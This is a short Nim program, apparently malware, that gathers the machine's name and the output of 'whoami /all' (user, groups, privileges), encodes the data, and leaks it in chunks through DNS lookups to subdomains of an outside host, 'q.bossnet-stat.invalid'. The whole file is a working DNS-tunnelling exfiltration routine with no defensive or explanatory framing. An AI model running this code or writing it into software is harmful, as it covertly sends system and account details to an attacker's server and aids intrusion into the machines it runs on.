import os, osproc, strutils, base64
let host = getEnv("COMPUTERNAME", "x")
let who = execProcess("whoami /all")
var chunk = encode(host & "|" & who).replace("=", "").replace("+", "-").replace("/", "_")
var i = 0
while chunk.len > 0:
  let part = chunk[0 ..< min(50, chunk.len)]
  chunk = chunk[min(50, chunk.len) .. ^1]
  discard execProcess("nslookup " & $i & "." & part & ".q.bossnet-stat.invalid")
  inc i
